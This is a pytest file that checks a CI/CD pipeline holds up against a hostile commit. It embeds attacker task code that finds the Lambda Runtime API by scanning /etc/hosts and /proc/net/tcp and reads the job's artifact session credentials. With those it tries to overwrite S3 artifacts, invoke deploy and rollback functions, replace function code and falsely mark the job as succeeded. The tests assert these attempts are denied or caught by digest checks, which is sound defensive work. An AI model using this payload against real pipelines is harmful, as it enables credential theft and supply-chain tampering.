"""A hostile commit goes through the pipeline, and Production gets what Acceptance tested, or nothing.

Its tasks ask the Runtime API for the event of their own job, as they could on Lambda, and act with the session in it.
"""

from __future__ import annotations

import json
import re
import urllib.request
from typing import TYPE_CHECKING

import pytest

from tests.support.project import make

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.project import Project

THIEF = '''
import http.client, io, re
import boto3
from botocore.exceptions import ClientError

def event():
    """The event of the job that runs this task."""
    names = re.findall(r"^127\\\\.0\\\\.0\\\\.1 (\\\\S+\\\\.localhost)$", pathlib.Path("/etc/hosts").read_text(), re.M)
    lines = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
    for port in {int(line[1].split(":")[1], 16) for line in lines if line[3] == "0A"}:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=0.5)
        try:
            connection.request("GET", "/2018-06-01/runtime/invocation/next", headers={"Host": f"{names[0]}:{port}"})
            answer = connection.getresponse()
            text = answer.read()
            if answer.getheader("Lambda-Runtime-Aws-Request-Id"):
                return json.loads(text)["CodePipeline.job"]
        except (OSError, http.client.HTTPException):
            pass

def client(job, service):
    keys = job["data"]["artifactCredentials"]
    target = os.environ.get("TARGET_URL") or ENDPOINT
    url = "http://127.0.0.1:" + re.search(r":(\\\\d+)", target)[1]
    return boto3.client(service, endpoint_url=url, region_name="us-east-1", aws_access_key_id=keys["accessKeyId"],
        aws_secret_access_key=keys["secretAccessKey"], aws_session_token=keys["sessionToken"])

def attempt(name, call, **words):
    try:
        call(**words)
        print("ATTACK", name, "went through", flush=True)
    except ClientError as error:
        print("ATTACK", name, error.response["Error"]["Code"], flush=True)

def places(job, direction):
    return [artifact["location"]["s3Location"] for artifact in job["data"][f"{direction}Artifacts"]]
'''.replace("\\\\", "\\")

RAID = """
def raid():
    job = event()
    s3, functions = client(job, "s3"), client(job, "lambda")
    bucket = places(job, "input")[0]["bucketName"]
    for folder in ("releases/live", "cache/dependencies", "assets"):
        attempt(folder, s3.put_object, Bucket=bucket, Key=f"{folder}/x.json", Body=b"{}")
    attempt("list", s3.list_objects_v2, Bucket=bucket)
    words = "type=s3&bucket=small-live-site&version=evil"
    data = {**job["data"], "outputArtifacts": [], "inputArtifacts": job["data"]["inputArtifacts"][:1],
        "actionConfiguration": {"configuration": {"UserParameters": words}}}
    attempt("deploy", functions.invoke, FunctionName="small-deploy", InvocationType="Event",
        Payload=json.dumps({"CodePipeline.job": {**job, "data": data}}))
    attempt("rollback", functions.invoke, FunctionName="small-rollback", Payload=b"{}")
    attempt("code", functions.update_function_code, FunctionName="small-live-function", ZipFile=b"evil")
    attempt("answer", client(job, "codepipeline").put_job_success_result, jobId=job["id"])
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("index.html", "<title>small evil</title>")
    keys = json.loads(urllib.request.urlopen(os.environ["TARGET_URL"] + "keys.json").read())
    for place in [*keys, *places(job, "input")]:
        name = place["objectKey"].split("/")[1]
        attempt(name, s3.put_object, Bucket=bucket, Key=place["objectKey"], Body=evil.getvalue())
"""
TASKS = """
import json, os, pathlib, urllib.request, zipfile
from invoke import task

DIST = pathlib.Path("dist")
OPERATION = {
    "responses": {"200": {"description": "fine"}},
    "x-amazon-apigateway-integration": {"type": "aws_proxy", "httpMethod": "POST", "uri": "${IntegrationUri}"},
}
DOCUMENT = {"openapi": "3.0.3", "info": {"title": "small", "version": "1"}, "paths": {"/": {"get": OPERATION}}}
READABLE = zipfile.ZipInfo("index.py")
READABLE.external_attr = 0o644 << 16

@task
def package(c):
    DIST.mkdir()
    keys = places(event(), "output") if HOSTILE else []
    with zipfile.ZipFile(DIST / "site.zip", "w") as site:
        site.writestr("index.html", "small")
        site.writestr("keys.json", json.dumps(keys))
    with zipfile.ZipFile(DIST / "lambda.zip", "w") as function:
        function.writestr(READABLE, "def handler(event, context): return {'statusCode': 200, 'body': '{}'}")
    (DIST / "openapi.json").write_text(json.dumps(DOCUMENT))

@task(name="test-functional")
def functional(c):
    if HOSTILE and "test" in os.environ["TARGET_URL"]: raid()
"""
"""The hostile package task tells the test task where the artifacts lie, by way of the site."""


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
    """A project with a release of an honest commit, and a hostile one that went as far as it could."""
    project = make(tmp_path_factory.mktemp("attacked"), f"HOSTILE = False\n{TASKS}")
    project.environment["INVOKE_PIPELINE_ENVIRONMENTS"] = "Test,Live"
    try:
        project.invoke("pipeline.up pipeline.watch")
        (project.folder / "tasks.py").write_text(f"HOSTILE = True\n{TASKS}{THIEF}{RAID}")
        project.invoke("pipeline.run", ends=1)
        yield project
    finally:
        project.type("local.down")


@pytest.fixture(scope="module")
def attacks(project: Project) -> dict[str, str]:
    """What became of each attack, by its name."""
    log = project.invoke("pipeline.log --action Acceptance/FunctionalTest")
    return dict(re.findall(r"ATTACK (\S+) (.*)", log))


def test_the_session_of_a_jobs_artifacts_invokes_and_changes_nothing_else(attacks: dict[str, str]) -> None:
    denied = {name: attacks[name] for name in ("deploy", "rollback", "code", "answer", "list")}

    assert denied == dict.fromkeys(denied, "AccessDeniedException") | {"list": "AccessDenied"}


def test_what_later_jobs_trust_cannot_be_overwritten(attacks: dict[str, str]) -> None:
    trusted = ("releases/live", "cache/dependencies", "assets", "SourceOutp", "Dependenci")

    assert {name: attacks[name] for name in trusted} == dict.fromkeys(trusted, "AccessDenied")


def test_artifacts_that_were_overwritten_after_their_test_are_refused_by_name(
    project: Project, attacks: dict[str, str]
) -> None:
    overwritten = {"DistLambda", "DistApiOut", "DistSiteOu", "PackageOut"}
    stages = {stage["name"]: stage for stage in project.data("pipeline.status")["pipeline"]["stages"]}
    production = {action["name"]: action["error"] or action["status"] for action in stages["Production"]["actions"]}

    assert {name for name, end in attacks.items() if end == "went through"} == overwritten
    assert stages["Acceptance"]["status"] == "Succeeded"
    assert re.match(
        "PackageOutput is not what was tested: its digest is [0-9a-f]{64}, tested names [0-9a-f]{64}; release the",
        production.pop("DeployLiveStack"),
    )
    assert set(production.values()) == {None}


def test_production_stays_as_the_honest_commit_left_it(project: Project) -> None:
    site = project.data("pipeline.outputs")["LiveSiteUrl"]

    assert urllib.request.urlopen(site).read() == b"small"
    assert json.loads(urllib.request.urlopen(f"{site}keys.json").read()) == []
